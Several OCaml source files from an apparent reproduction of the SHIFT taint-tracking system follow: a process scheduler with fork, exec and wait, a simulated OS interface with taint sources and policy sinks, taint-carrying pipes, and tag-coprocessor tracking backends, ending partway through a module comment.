  Array.blit parent.Cpu.preds 0 cpu.Cpu.preds 0 (Array.length parent.Cpu.preds);
  cpu.Cpu.unat <- parent.Cpu.unat;
  copy_call_stack parent.Cpu.call_stack cpu.Cpu.call_stack;
  (* resume right after the fork syscall, with the child's return
     value: 0, clean *)
  cpu.Cpu.ip <- parent.Cpu.ip + 1;
  Cpu.set_value cpu Reg.ret 0L;
  Cpu.set_nat cpu Reg.ret false;
  cpu.Cpu.syscall_handler <- parent.Cpu.syscall_handler;
  cpu.Cpu.flowtrace <- parent.Cpu.flowtrace;
  Flowtrace.copy_regs parent.Cpu.ftregs cpu.Cpu.ftregs;
  (* the constant 0 the child sees in [ret] has no provenance *)
  cpu.Cpu.ftregs.Flowtrace.id.(Reg.ret) <- 0;
  cpu.Cpu.ftregs.Flowtrace.depth.(Reg.ret) <- 0;
  cpu.Cpu.ftregs.Flowtrace.washed.(Reg.ret) <- 0;
  cpu.Cpu.sb.Cpu.sb_on <- parent.Cpu.sb.Cpu.sb_on;
  cpu.Cpu.tracking <- parent.Cpu.tracking;
  cpu

let do_fork t cpu =
  let parent = current t in
  assert (parent.cpu == cpu);
  let pid = t.next_pid in
  t.next_pid <- t.next_pid + 1;
  let child =
    {
      pid;
      parent = parent.pid;
      image = parent.image;
      cpu = fork_cpu cpu;
      state = Run;
      ctx = World.fork_ctx t.world parent.ctx ~pid;
      pmap = Provenance.clone parent.pmap;
    }
  in
  (* the child enters the schedule at the next round, like Smp.spawn *)
  t.procs <- t.procs @ [ child ];
  Int64.of_int pid

(* ---------- exec ---------- *)

let do_exec t cpu ~prog ~args =
  let proc = current t in
  assert (proc.cpu == cpu);
  match t.load ~comm:prog with
  | None -> () (* not found: the World returns -1 to the caller *)
  | Some fresh ->
      (* the fresh CPU joins the running machine: shared kernel, flow
         trace and tag backend, same superblock switch *)
      fresh.Cpu.syscall_handler <- cpu.Cpu.syscall_handler;
      fresh.Cpu.flowtrace <- cpu.Cpu.flowtrace;
      fresh.Cpu.tracking <- cpu.Cpu.tracking;
      fresh.Cpu.sb.Cpu.sb_on <- cpu.Cpu.sb.Cpu.sb_on;
      World.exec_reset_ctx t.world proc.ctx ~comm:prog ~argv:args;
      t.retiring <- Some cpu;
      proc.image <- Some prog;
      proc.cpu <- fresh;
      (* fresh address space, fresh per-byte provenance; the exec
         arguments re-enter through sys_getarg *)
      proc.pmap <- Provenance.create ();
      let ft = fresh.Cpu.flowtrace in
      if ft.Flowtrace.enabled then Flowtrace.set_provenance ft proc.pmap;
      raise Exec_switch

(* ---------- wait ---------- *)

let reap t proc status =
  proc.cpu.Cpu.stats.Stats.cycles <- Pipeline.cycles proc.cpu.Cpu.pipe;
  t.retired <- Stats.total [ t.retired; proc.cpu.Cpu.stats ];
  t.procs <- List.filter (fun p -> p.pid <> proc.pid) t.procs;
  World.Wait_ready status

let do_wait t arg_pid =
  let me = current t in
  let children = List.filter (fun p -> p.parent = me.pid) t.procs in
  let wanted =
    if arg_pid > 0 then List.filter (fun p -> p.pid = arg_pid) children
    else children
  in
  if wanted = [] then World.Wait_none
  else
    (* reap the lowest-pid finished child ([procs] is in pid order) *)
    match
      List.find_opt
        (fun p -> match p.state with Run -> false | _ -> true)
        wanted
    with
    | Some ({ state = Zombie status; _ } as p) -> reap t p status
    | Some ({ state = Crashed _; _ } as p) -> reap t p (-1L)
    | Some _ | None -> World.Wait_block

(* ---------- construction ---------- *)

let wire t =
  World.set_procs t.world ~fork:(do_fork t)
    ~exec:(fun cpu ~prog ~args -> do_exec t cpu ~prog ~args)
    ~wait:(do_wait t)

let create ?(quantum = 50) ?(comm = "main") ~world ~load cpu =
  let ctx = World.base_ctx world in
  World.set_comm ctx comm;
  let ft = cpu.Cpu.flowtrace in
  let pmap =
    if ft.Flowtrace.enabled then Flowtrace.provenance ft
    else Provenance.create ()
  in
  let pid1 = { pid = 1; parent = 0; image = None; cpu; state = Run; ctx; pmap } in
  let t =
    {
      quantum;
      world;
      load;
      procs = [ pid1 ];
      next_pid = 2;
      round = [];
      finished = None;
      retired = Stats.create ();
      retiring = None;
    }
  in
  wire t;
  t

(* ---------- the scheduler ---------- *)

(* run up to [n] instructions on a process (see Smp.run_steps: the
   superblock driver falls back to the interpreter instruction by
   instruction, so interleaving is exact either way) *)
let run_steps t proc n =
  if proc.state <> Run then 0
  else begin
    let spent, out = Superblock.steps proc.cpu ~limit:n in
    (match out with
    | None -> ()
    | Some (Cpu.Exited v) ->
        proc.state <- Zombie v;
        World.close_ctx t.world proc.ctx
    | Some (Cpu.Faulted (Fault.Call_stack_underflow, _)) when proc.pid > 1 ->
        (* a forked child returning off the top of its entry function
           is a normal exit; its status is in the return register *)
        proc.state <- Zombie (Cpu.get_value proc.cpu Reg.ret);
        World.close_ctx t.world proc.ctx
    | Some (Cpu.Faulted (f, ip)) ->
        proc.state <- Crashed (f, ip);
        World.close_ctx t.world proc.ctx
    | Some Cpu.Out_of_fuel ->
        failwith
          "Process.run_steps: Superblock.steps reported Out_of_fuel, but \
           single-slice execution is unfueled");
    spent
  end

let finalize_cycles t =
  List.iter
    (fun p -> p.cpu.Cpu.stats.Stats.cycles <- Pipeline.cycles p.cpu.Cpu.pipe)
    t.procs

(* Fold a replaced image's counters into [retired] once Exec_switch has
   finished unwinding (the superblock driver adds the aborted block's
   instructions to the old CPU's stats as the exception passes it). *)
let finish_retiring t =
  match t.retiring with
  | None -> ()
  | Some cpu ->
      cpu.Cpu.stats.Stats.cycles <- Pipeline.cycles cpu.Cpu.pipe;
      t.retired <- Stats.total [ t.retired; cpu.Cpu.stats ];
      t.retiring <- None

let propagate_pid1 t proc =
  if proc.pid = 1 then
    match proc.state with
    | Zombie v -> t.finished <- Some (Cpu.Exited v)
    | Crashed (f, ip) -> t.finished <- Some (Cpu.Faulted (f, ip))
    | Run -> ()

let run_for t ~budget =
  match t.finished with
  | Some o -> `Finished o
  | None ->
      let spent = ref 0 in
      let yielded = ref false in
      Fun.protect ~finally:(fun () -> finalize_cycles t) @@ fun () ->
      while t.finished = None && not !yielded do
        match t.round with
        | [] -> (
            match
              List.filter_map
                (fun p -> if p.state = Run then Some (p, t.quantum) else None)
                t.procs
            with
            | [] ->
                (* pid 1 is not Run yet nothing propagated: cannot
                   happen, but stay safe *)
                t.finished <- Some Cpu.Out_of_fuel
            | runnable -> t.round <- runnable)
        | (proc, remaining) :: rest ->
            if proc.state <> Run then t.round <- rest
            else begin
              let allowance = min remaining (budget - !spent) in
              if allowance <= 0 then yielded := true
              else begin
                switch_to t proc;
                let used, switched =
                  try (run_steps t proc allowance, false)
                  with Exec_switch ->
                    finish_retiring t;
                    (allowance, true)
                in
                spent := !spent + used;
                if
                  (not switched)
                  && proc.state = Run
                  && remaining - used > 0
                then
                  (* the budget cut the quantum short: stay at the head
                     so the schedule is independent of budget slicing *)
                  t.round <- (proc, remaining - used) :: rest
                else
                  (* turn over — including after exec, whatever quantum
                     remained, so the interleaving does not depend on
                     where a budget boundary fell relative to the exec *)
                  t.round <- rest;
                propagate_pid1 t proc
              end
            end
      done;
      (match t.finished with Some o -> `Finished o | None -> `Yielded)

let run ?(fuel = 2_000_000_000) t =
  match run_for t ~budget:fuel with
  | `Finished o -> o
  | `Yielded -> Cpu.Out_of_fuel

(* ---------- observation ---------- *)

let pid1_cpu t =
  match List.find_opt (fun p -> p.pid = 1) t.procs with
  | Some p -> p.cpu
  | None -> invalid_arg "Process.pid1_cpu: pid 1 was reaped"

(* Processes time-multiplex one simulated machine, so their cycle
   counts add up (contrast Stats.concurrent for SMP harts). *)
let stats t =
  Stats.total (t.retired :: List.map (fun p -> p.cpu.Cpu.stats) t.procs)

let superblock_stats t =
  Stats.sb_total (List.map (fun p -> Superblock.stats p.cpu) t.procs)

let cache_stats t =
  List.fold_left
    (fun (h, m) p ->
      ( h + Shift_machine.Cache.hits p.cpu.Cpu.cache,
        m + Shift_machine.Cache.misses p.cpu.Cpu.cache ))
    (0, 0) t.procs

let finished t = t.finished
let quantum t = t.quantum

type part = {
  p_pid : int;
  p_parent : int;
  p_image : string option;
  p_state : state;
  p_cpu : Cpu.t;
  p_ctx : World.ctx;
  p_pmap : Provenance.t;
}

let parts t =
  List.map
    (fun p ->
      {
        p_pid = p.pid;
        p_parent = p.parent;
        p_image = p.image;
        p_state = p.state;
        p_cpu = p.cpu;
        p_ctx = p.ctx;
        p_pmap = p.pmap;
      })
    t.procs

let round t = List.map (fun (p, rem) -> (p.pid, rem)) t.round
let retired t = t.retired
let next_pid t = t.next_pid

let live_count t =
  List.length (List.filter (fun p -> p.state = Run) t.procs)

(* ---------- restore ---------- *)

let of_parts ?(quantum = 50) ~world ~load ~procs ~next_pid ~round ~finished
    ~retired () =
  let procs =
    List.map
      (fun p ->
        {
          pid = p.p_pid;
          parent = p.p_parent;
          image = p.p_image;
          cpu = p.p_cpu;
          state = p.p_state;
          ctx = p.p_ctx;
          pmap = p.p_pmap;
        })
      procs
  in
  (match procs with
  | { pid = 1; _ } :: _ -> ()
  | _ -> invalid_arg "Process.of_parts: pid 1 must be first");
  let round =
    List.map
      (fun (pid, rem) ->
        match List.find_opt (fun p -> p.pid = pid) procs with
        | Some p -> (p, rem)
        | None ->
            invalid_arg "Process.of_parts: round references an unknown pid")
      round
  in
  let t =
    {
      quantum;
      world;
      load;
      procs;
      next_pid;
      round;
      finished;
      retired;
      retiring = None;
    }
  in
  wire t;
  t
