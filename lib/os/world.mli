(** The simulated OS: file system, network, heap break, syscall
    dispatch, taint sources and policy sinks.

    This layer plays the role of the kernel plus the paper's
    configuration-driven taint sources (§3.3.1): data entering through
    [read]/[recv] is marked in the bitmap according to the policy, and
    the high-level policies (Table 1) are enforced when tainted data
    reaches an OS sink ([open], [system], [sql_exec], [html_out]).

    I/O syscalls charge cycle costs so that I/O-bound workloads (the
    Apache experiment, Figure 6) show instrumentation overhead diluted
    by I/O time, as on real hardware. *)

type io_cost = {
  per_call : int;      (** fixed kernel-crossing cost, cycles *)
  per_byte : int;      (** cost per byte moved by read/write/recv/send *)
  sendfile_per_byte : int;  (** cheaper: no user-space copy *)
}

val default_io_cost : io_cost

type t

val create :
  ?policy:Shift_policy.Policy.t ->
  ?gran:Shift_mem.Granularity.t ->
  ?io_cost:io_cost ->
  ?tracking:Shift_tracking.Tracking.t ->
  unit ->
  t
(** Granularity defaults to [Word]; it must match the compilation mode
    of the guest so host-side bitmap reads agree with the instrumented
    code.  [tracking] (default an inert [nat] handle) gates the kernel's
    taint touch-points: input syscalls mark their buffers only when the
    backend tracks sources, and the H1–H5 sink policies are evaluated
    only when it performs checks. *)

val policy : t -> Shift_policy.Policy.t

val add_file : t -> ?tainted:bool -> string -> string -> unit
(** [add_file t path content]; [tainted] defaults to the policy's
    [taint_files]. *)

val queue_request : t -> string -> unit
(** Enqueue a network connection whose payload [recv] will return;
    [accept] pops the queue. *)

val set_stdin : t -> ?tainted:bool -> string -> unit
(** Install keyboard input (paper §3.3.1 source 3): what [read]ing
    fd 0 returns.  Tainted by default. *)

val output : t -> string
(** Everything the guest wrote with [write]/[send]. *)

val html_output : t -> string
val sql_queries : t -> string list
val system_commands : t -> string list

val alerts : t -> Shift_policy.Alert.t list
(** Alerts recorded so far (all of them under [Log_only]; under
    [Halt_program] the first one is instead raised as
    {!Shift_policy.Alert.Violation}). *)

val handler : t -> Shift_machine.Cpu.t -> unit
(** The syscall dispatcher to install as
    [cpu.syscall_handler]. *)

val set_threads :
  t ->
  spawn:(Shift_machine.Cpu.t -> entry:int64 -> arg:int64 -> int) ->
  join:(int -> int64 option) ->
  unit
(** Enable the [spawn]/[join] syscalls (wired to {!Shift_machine.Smp}
    by [Session.run_mt]); [join] returning [None] means "still
    running" and makes the caller spin. *)

val taint_positions : t -> Shift_machine.Cpu.t -> int64 -> string -> int list
(** Positions of tainted bytes of a guest string at an address (reads
    the bitmap at this world's granularity). *)

(** {1 Checkpoint/restore}

    The mutable kernel state as plain data: file system, open file
    descriptors (with stream positions), the pending connection queue,
    output buffers, sink logs and the heap break.  The policy,
    granularity and I/O cost model are {e not} part of a dump — they
    come from the session configuration that recreates the world. *)

type fd_state = {
  fd_content : string;
  fd_pos : int;
  fd_tainted : bool;
  fd_path : string option;
}

type dump = {
  d_files : (string * string * bool) list;  (** path, content, tainted; sorted *)
  d_fds : (int * fd_state) list;  (** sorted by fd *)
  d_next_fd : int;
  d_pending : string list;  (** queue order, head first *)
  d_output : string;
  d_html : string;
  d_sql : string list;  (** internal (newest-first) order *)
  d_commands : string list;  (** internal (newest-first) order *)
  d_alerts : Shift_policy.Alert.t list;  (** internal (newest-first) order *)
  d_brk : int64;
}

val dump : t -> dump

val undump : t -> dump -> unit
(** Overwrite [t]'s mutable state with the dump's.  [t] should be a
    fresh world created with the same policy/granularity/io_cost as the
    dumped one. *)
