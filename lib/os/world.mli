(** The simulated OS: file system, network, descriptors, heap break,
    syscall dispatch, taint sources and policy sinks.

    This layer plays the role of the kernel plus the paper's
    configuration-driven taint sources (§3.3.1): data entering through
    [read]/[recv] is marked in the bitmap according to the policy, and
    the high-level policies (Table 1) are enforced when tainted data
    reaches an OS sink ([open], [system], [sql_exec], [html_out]).

    A world hosts one or more {e kernel contexts} — per-process
    descriptor tables and heap breaks.  Single-process sessions run
    entirely in the base context and see exactly the classic
    behaviour; a multi-process scheduler ({!Procs}) creates one context
    per process, switches the current one at each quantum, and wires
    the [fork]/[exec]/[wait] syscalls through {!set_procs}.  Open files
    and pipes live in a kernel-wide refcounted object table so
    descriptors inherited across [fork] (or duplicated with [dup])
    share stream positions and pipe buffers, as on Unix.

    I/O syscalls charge cycle costs so that I/O-bound workloads (the
    Apache experiment, Figure 6) show instrumentation overhead diluted
    by I/O time, as on real hardware. *)

type io_cost = {
  per_call : int;      (** fixed kernel-crossing cost, cycles *)
  per_byte : int;      (** cost per byte moved by read/write/recv/send *)
  sendfile_per_byte : int;  (** cheaper: no user-space copy *)
}

val default_io_cost : io_cost

type t

val create :
  ?policy:Shift_policy.Policy.t ->
  ?gran:Shift_mem.Granularity.t ->
  ?io_cost:io_cost ->
  ?tracking:Shift_tracking.Tracking.t ->
  unit ->
  t
(** Granularity defaults to [Word]; it must match the compilation mode
    of the guest so host-side bitmap reads agree with the instrumented
    code.  [tracking] (default an inert [nat] handle) gates the kernel's
    taint touch-points: input syscalls mark their buffers only when the
    backend tracks sources, and the H1–H5 sink policies are evaluated
    only when it performs checks. *)

val policy : t -> Shift_policy.Policy.t

val add_file : t -> ?tainted:bool -> string -> string -> unit
(** [add_file t path content]; [tainted] defaults to the policy's
    [taint_files]. *)

val queue_request : t -> string -> unit
(** Enqueue a network connection whose payload [recv] will return;
    [accept] pops the queue. *)

val set_stdin : t -> ?tainted:bool -> string -> unit
(** Install keyboard input (paper §3.3.1 source 3): what [read]ing
    fd 0 returns.  Tainted by default. *)

val output : t -> string
(** Everything the guest wrote with [write]/[send] to non-pipe
    descriptors. *)

val html_output : t -> string
val sql_queries : t -> string list
val system_commands : t -> string list

val alerts : t -> Shift_policy.Alert.t list
(** Alerts recorded so far (all of them under [Log_only]; under
    [Halt_program] the first one is instead raised as
    {!Shift_policy.Alert.Violation}). *)

val handler : t -> Shift_machine.Cpu.t -> unit
(** The syscall dispatcher to install as
    [cpu.syscall_handler]. *)

val set_threads :
  t ->
  spawn:(Shift_machine.Cpu.t -> entry:int64 -> arg:int64 -> int) ->
  join:(int -> int64 option) ->
  unit
(** Enable the [spawn]/[join] syscalls (wired to {!Shift_machine.Smp}
    by [Session.run_mt]); [join] returning [None] means "still
    running" and makes the caller spin. *)

val taint_positions : t -> Shift_machine.Cpu.t -> int64 -> string -> int list
(** Positions of tainted bytes of a guest string at an address (reads
    the bitmap at this world's granularity). *)

(** {1 Processes}

    Everything below is driven by {!Procs}; a world without
    {!set_procs} fails the process syscalls with [-1] and never
    decorates its observable output, keeping single-process runs
    byte-identical to the classic kernel. *)

(** Bytes of an exec argument, sampled (with per-byte taint and
    provenance) from the caller's address space before the image is
    replaced: the only data that survives [exec].  The new image reads
    them back with [sys_getarg], which re-deposits the shadow state in
    the fresh address space. *)
type arg_value = {
  a_bytes : string;
  a_taints : bool array;
  a_provs : int array;
}

(** What a [wait] attempt found. *)
type wait_result =
  | Wait_ready of int64  (** a child was reaped; its exit status *)
  | Wait_block  (** children alive but none done: retry next quantum *)
  | Wait_none  (** no children to wait for: [-1] *)

val set_procs :
  t ->
  fork:(Shift_machine.Cpu.t -> int64) ->
  exec:(Shift_machine.Cpu.t -> prog:string -> args:arg_value list -> unit) ->
  wait:(int -> wait_result) ->
  unit
(** Enable the process syscalls and multi-process decoration of alerts
    and provenance chains (pid/comm on origins, sinks and messages).
    [fork] returns the child pid in the parent (the scheduler gives the
    child its own return value); a successful [exec] raises to unwind
    the replaced image, and a normal return means the program was not
    found. *)

(** A kernel context: one process's descriptor table, heap break, comm
    name and cross-process provenance breadcrumbs. *)
type ctx

val base_ctx : t -> ctx
(** The context the world starts in (pid 1, comm ["main"]). *)

val current_ctx : t -> ctx

val use_ctx : t -> ctx -> unit
(** Context switch: subsequent syscalls run against this context. *)

val ctx_pid : ctx -> int
val ctx_comm : ctx -> string

val set_comm : ctx -> string -> unit
(** Name the process (shown in alerts and provenance hops). *)

val fork_ctx : t -> ctx -> pid:int -> ctx
(** A child context: the parent's descriptor table copied entry by
    entry (each shared object gains a reference), same break, comm and
    breadcrumbs. *)

val exec_reset_ctx : t -> ctx -> comm:string -> argv:arg_value list -> unit
(** Reset the image-owned state on [exec]: new comm, fresh break, the
    sampled argv.  Descriptors and breadcrumbs survive. *)

val close_ctx : t -> ctx -> unit
(** Process teardown: drop every descriptor (pipe ends held only by a
    finished process stop counting, so readers see EOF once the last
    writer exits). *)

(** {1 Checkpoint/restore}

    The mutable kernel state as plain data: file system, the shared
    object table (streams with positions, pipe buffers), per-context
    descriptor tables, the pending connection queue, output buffers and
    sink logs.  The policy, granularity and I/O cost model are {e not}
    part of a dump — they come from the session configuration that
    recreates the world. *)

type fd_state = {
  fd_content : string;
  fd_pos : int;
  fd_tainted : bool;
  fd_path : string option;
}

(** What a descriptor points at: a stream or one end of a pipe, by
    object id. *)
type fd_entry = Fstream of int | Fpipe_r of int | Fpipe_w of int

type obj_state = Os_stream of fd_state | Os_pipe of Pipe.state

type ctx_state = {
  cx_pid : int;
  cx_comm : string;
  cx_fds : (int * fd_entry) list;  (** sorted by fd *)
  cx_next_fd : int;
  cx_brk : int64;
  cx_crumbs : string list;  (** internal (newest-first) order *)
  cx_argv : arg_value list;
}

type dump = {
  d_files : (string * string * bool) list;  (** path, content, tainted; sorted *)
  d_objs : (int * int * obj_state) list;  (** oid, refs, state; sorted *)
  d_next_oid : int;
  d_ctx : ctx_state;  (** the base context *)
  d_pending : string list;  (** queue order, head first *)
  d_output : string;
  d_html : string;
  d_sql : string list;  (** internal (newest-first) order *)
  d_commands : string list;  (** internal (newest-first) order *)
  d_alerts : Shift_policy.Alert.t list;  (** internal (newest-first) order *)
}

val dump_ctx : ctx -> ctx_state

val ctx_of_state : ctx_state -> ctx

val load_ctx_into : ctx -> ctx_state -> unit
(** Install a dumped context in place (descriptor entries are installed
    without touching object reference counts — the object-table dump
    already carries the aggregate counts). *)

val dump : t -> dump

val undump : t -> dump -> unit
(** Overwrite [t]'s mutable state with the dump's.  [t] should be a
    fresh world created with the same policy/granularity/io_cost as the
    dumped one.  Non-base contexts are restored separately through
    {!ctx_of_state} by the process-table snapshot. *)
