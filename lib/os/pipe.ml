(* Taint- and provenance-carrying pipe buffers.

   A pipe is a FIFO of write segments.  Each segment snapshots, at write
   time, the writer's view of its buffer: the bytes, the per-byte taint
   bits and the per-byte Flowtrace source ids, plus the writer's
   pid/comm (so the reader can say which process the data crossed from).
   The reader consumes segments front to back and re-deposits taint and
   provenance into its own address space — this is the cross-process tag
   propagation edge.

   End-of-file follows Unix: a read on an empty pipe blocks while any
   write end is open and returns 0 once the last writer closed.  The
   reader/writer counts are maintained by the World fd layer across
   open/dup/fork-inherit/close. *)

type seg = {
  data : string;
  taints : bool array;  (* per byte, sampled from the writer's bitmap *)
  provs : int array;  (* per-byte source ids; 0 = no recorded source *)
  src_pid : int;
  src_comm : string;
  mutable off : int;  (* bytes of [data] already consumed *)
}

type t = {
  segs : seg Queue.t;
  mutable readers : int;
  mutable writers : int;
}

(* The counts start at zero: the World fd layer owns them, bumping one
   end per descriptor it installs and dropping it on close. *)
let create () = { segs = Queue.create (); readers = 0; writers = 0 }

let write t ~data ~taints ~provs ~src_pid ~src_comm =
  let n = String.length data in
  if n > 0 then begin
    if Array.length taints <> n || Array.length provs <> n then
      invalid_arg "Pipe.write: shadow arrays must match the data length";
    Queue.add { data; taints; provs; src_pid; src_comm; off = 0 } t.segs
  end

let is_empty t = Queue.is_empty t.segs

let buffered t =
  Queue.fold (fun acc s -> acc + String.length s.data - s.off) 0 t.segs

(* Consume up to [len] bytes: returns [(seg, start, n)] views in FIFO
   order.  Segments are never zero-length, so every view has [n > 0]. *)
let read t ~len =
  let rec go acc need =
    if need <= 0 then List.rev acc
    else
      match Queue.peek_opt t.segs with
      | None -> List.rev acc
      | Some seg ->
          let avail = String.length seg.data - seg.off in
          let n = min avail need in
          let start = seg.off in
          seg.off <- seg.off + n;
          if seg.off >= String.length seg.data then ignore (Queue.pop t.segs);
          go ((seg, start, n) :: acc) (need - n)
  in
  go [] len

(* ---------- checkpoint/restore ---------- *)

type seg_state = {
  sg_data : string;
  sg_taints : bool array;
  sg_provs : int array;
  sg_pid : int;
  sg_comm : string;
  sg_off : int;
}

type state = { st_segs : seg_state list; st_readers : int; st_writers : int }

let dump t =
  {
    st_segs =
      Queue.fold
        (fun acc s ->
          {
            sg_data = s.data;
            sg_taints = Array.copy s.taints;
            sg_provs = Array.copy s.provs;
            sg_pid = s.src_pid;
            sg_comm = s.src_comm;
            sg_off = s.off;
          }
          :: acc)
        [] t.segs
      |> List.rev;
    st_readers = t.readers;
    st_writers = t.writers;
  }

let of_state st =
  let t = create () in
  t.readers <- st.st_readers;
  t.writers <- st.st_writers;
  List.iter
    (fun s ->
      Queue.add
        {
          data = s.sg_data;
          taints = Array.copy s.sg_taints;
          provs = Array.copy s.sg_provs;
          src_pid = s.sg_pid;
          src_comm = s.sg_comm;
          off = s.sg_off;
        }
        t.segs)
    st.st_segs;
  t
