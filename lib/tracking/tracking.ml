module Reg = Shift_isa.Reg
module Memory = Shift_mem.Memory
module Taint = Shift_mem.Taint
module Granularity = Shift_mem.Granularity
module Policy = Shift_policy.Policy
module Alert = Shift_policy.Alert

(* ---------- static backend profiles ---------- *)

module type S = sig
  val backend : Backend.t

  val per_instr : bool
  (** The backend needs a hook on every retired instruction. *)

  val sources : bool
  (** Input syscalls mark their buffers tainted. *)

  val checks : bool
  (** Security policies (low-level and high-level) are evaluated. *)

  val superblocks_ok : bool
  (** The superblock compiler may run (its compiled blocks bypass the
      per-instruction hook). *)
end

module Nat = struct
  let backend = Backend.Nat
  let per_instr = false
  let sources = true
  let checks = true
  let superblocks_ok = true
end

module Coproc = struct
  let backend = Backend.Coproc
  let per_instr = true
  let sources = true
  let checks = true
  let superblocks_ok = false
end

module Off = struct
  let backend = Backend.Off
  let per_instr = false
  let sources = false
  let checks = false
  let superblocks_ok = true
end

let profile : Backend.t -> (module S) = function
  | Backend.Nat -> (module Nat)
  | Backend.Coproc -> (module Coproc)
  | Backend.Off -> (module Off)

(* ---------- tag-queue records ---------- *)

type check = Load_address | Store_address | Branch_target | Call_target

let check_to_string = function
  | Load_address -> "load address"
  | Store_address -> "store address"
  | Branch_target -> "branch target"
  | Call_target -> "call target"

let check_of_string = function
  | "load address" -> Some Load_address
  | "store address" -> Some Store_address
  | "branch target" -> Some Branch_target
  | "call target" -> Some Call_target
  | _ -> None

type record =
  | Set of { dst : int; tainted : bool }
  | Move of { dst : int; src : int }
  | Union of { dst : int; s1 : int; s2 : int }
  | Load of { dst : int; addr : int64; len : int }
  | Store of { addr : int64; len : int; src : int }
  | Check of { what : check; reg : int }

type stats = {
  mutable enqueued : int;
  mutable drained : int;
  mutable stalls : int;
  mutable stall_cycles : int;
  mutable checks : int;
  mutable alerts : int;
  mutable max_lag : int;
  mutable last_alert_lag : int;
}

let fresh_stats () =
  {
    enqueued = 0;
    drained = 0;
    stalls = 0;
    stall_cycles = 0;
    checks = 0;
    alerts = 0;
    max_lag = 0;
    last_alert_lag = 0;
  }

type t = {
  backend : Backend.t;
  per_instr : bool;
  sources : bool;
  checks : bool;
  low_level : bool;
  capacity : int;
  drain_rate : int;
  stall_penalty : int;
  regs : bool array;  (* coproc-private register tag file *)
  q : (record * int) Queue.t;  (* record, retired-count at enqueue *)
  mutable retired : int;
  mutable pending_stall : int;
  stats : stats;
  mem : Memory.t option;
}

let default_capacity = 256
let default_drain_rate = 2
let default_stall_penalty = 4

let create ?(low_level = true) ?(capacity = default_capacity)
    ?(drain_rate = default_drain_rate) ?(stall_penalty = default_stall_penalty)
    ?mem ~backend () =
  let module P = (val profile backend) in
  {
    backend;
    per_instr = P.per_instr;
    sources = P.sources;
    checks = P.checks;
    low_level;
    capacity = max 1 capacity;
    drain_rate = max 1 drain_rate;
    stall_penalty = max 0 stall_penalty;
    regs = (if P.per_instr then Array.make Reg.count false else [||]);
    q = Queue.create ();
    retired = 0;
    pending_stall = 0;
    stats = fresh_stats ();
    mem;
  }

let default = create ~backend:Backend.Nat ()

let backend t = t.backend
let per_instr t = t.per_instr
let sources_on t = t.sources
let checks_on t = t.checks
let low_level_checks t = t.checks && t.low_level
let capacity t = t.capacity
let stats t = t.stats
let queue_length t = Queue.length t.q
let reg_tag t r = t.per_instr && t.regs.(r)

let mem_exn t =
  match t.mem with
  | Some m -> m
  | None -> invalid_arg "Tracking: tag coprocessor has no memory binding"

let coproc_alert what ~lag =
  let base =
    match Policy.alert_of_fault (check_to_string what) with
    | Some a -> a
    | None -> Alert.make ~policy:"L?" "tag coprocessor check"
  in
  {
    base with
    Alert.message =
      Printf.sprintf "%s (tag coprocessor, drain lag %d)" base.Alert.message lag;
  }

(* Apply one drained record against the coprocessor's own tag state.
   r0 is hard-wired clean; it doubles as the "no second operand" slot
   in Union records. *)
let apply t (r, at) =
  let lag = t.retired - at in
  if lag > t.stats.max_lag then t.stats.max_lag <- lag;
  t.stats.drained <- t.stats.drained + 1;
  match r with
  | Set { dst; tainted } -> if dst <> Reg.zero then t.regs.(dst) <- tainted
  | Move { dst; src } -> if dst <> Reg.zero then t.regs.(dst) <- t.regs.(src)
  | Union { dst; s1; s2 } ->
      if dst <> Reg.zero then t.regs.(dst) <- t.regs.(s1) || t.regs.(s2)
  | Load { dst; addr; len } ->
      if dst <> Reg.zero then
        t.regs.(dst) <- Taint.any_tainted (mem_exn t) Granularity.Byte ~addr ~len
  | Store { addr; len; src } ->
      Taint.set_range (mem_exn t) Granularity.Byte ~addr ~len
        ~tainted:t.regs.(src)
  | Check { what; reg } ->
      t.stats.checks <- t.stats.checks + 1;
      if t.regs.(reg) then begin
        t.stats.alerts <- t.stats.alerts + 1;
        t.stats.last_alert_lag <- lag;
        raise (Alert.Violation (coproc_alert what ~lag))
      end

let drain t n =
  let n = min n (Queue.length t.q) in
  for _ = 1 to n do
    apply t (Queue.pop t.q)
  done

let tick t =
  t.retired <- t.retired + 1;
  drain t t.drain_rate

let push t r =
  if Queue.length t.q >= t.capacity then begin
    (* queue full: the core stalls while the coprocessor forces one
       record out to make room *)
    t.stats.stalls <- t.stats.stalls + 1;
    t.stats.stall_cycles <- t.stats.stall_cycles + t.stall_penalty;
    t.pending_stall <- t.pending_stall + t.stall_penalty;
    drain t 1
  end;
  t.stats.enqueued <- t.stats.enqueued + 1;
  Queue.add (r, t.retired) t.q

let flush t = drain t max_int

let take_stall t =
  let s = t.pending_stall in
  t.pending_stall <- 0;
  s

(* ---------- snapshot support ---------- *)

type dump = {
  d_regs : bool array;
  d_queue : (record * int) list;
  d_retired : int;
  d_pending_stall : int;
}

let export t =
  {
    d_regs = Array.copy t.regs;
    d_queue = List.of_seq (Queue.to_seq t.q);
    d_retired = t.retired;
    d_pending_stall = t.pending_stall;
  }

let import t (d : dump) =
  if Array.length d.d_regs <> Array.length t.regs then
    invalid_arg "Tracking.import: register tag file size mismatch";
  Array.blit d.d_regs 0 t.regs 0 (Array.length d.d_regs);
  Queue.clear t.q;
  List.iter (fun e -> Queue.add e t.q) d.d_queue;
  t.retired <- d.d_retired;
  t.pending_stall <- d.d_pending_stall
