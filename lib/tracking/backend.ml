type t = Nat | Coproc | Off

let default = Nat
let all = [ Nat; Coproc; Off ]

let to_string = function
  | Nat -> "nat"
  | Coproc -> "coproc"
  | Off -> "none"

let of_string s =
  match String.lowercase_ascii (String.trim s) with
  | "nat" | "shift" -> Ok Nat
  | "coproc" | "coprocessor" -> Ok Coproc
  | "none" | "off" | "baseline" -> Ok Off
  | _ ->
      Error
        (Printf.sprintf "unknown tracking backend %S (expected nat, coproc or none)" s)

let pp ppf t = Fmt.string ppf (to_string t)
