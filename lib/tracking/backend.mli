(** Taint-tracking backend selection.

    The reproduction can cost one guest program under three tracking
    architectures from the DIFT design space:

    - [Nat]: SHIFT's on-core scheme (the paper's design) — register
      taint rides the NaT bits and memory taint lives in an in-memory
      bitmap updated by the instrumented guest code itself.  This is
      the default and is bit- and counter-identical to the repository
      before backends existed.
    - [Coproc]: a decoupled tag coprocessor in the style of the
      post-SHIFT literature (Wahab et al.'s ARM DIFT coprocessor,
      PAGURUS's offloaded shell circuit): the main core retires
      uninstrumented code and enqueues propagation records to a bounded
      asynchronous tag queue; security checks resolve when their record
      drains, so detection lags retirement and a full queue stalls the
      core.
    - [Off]: no tracking at all — the uninstrumented baseline every
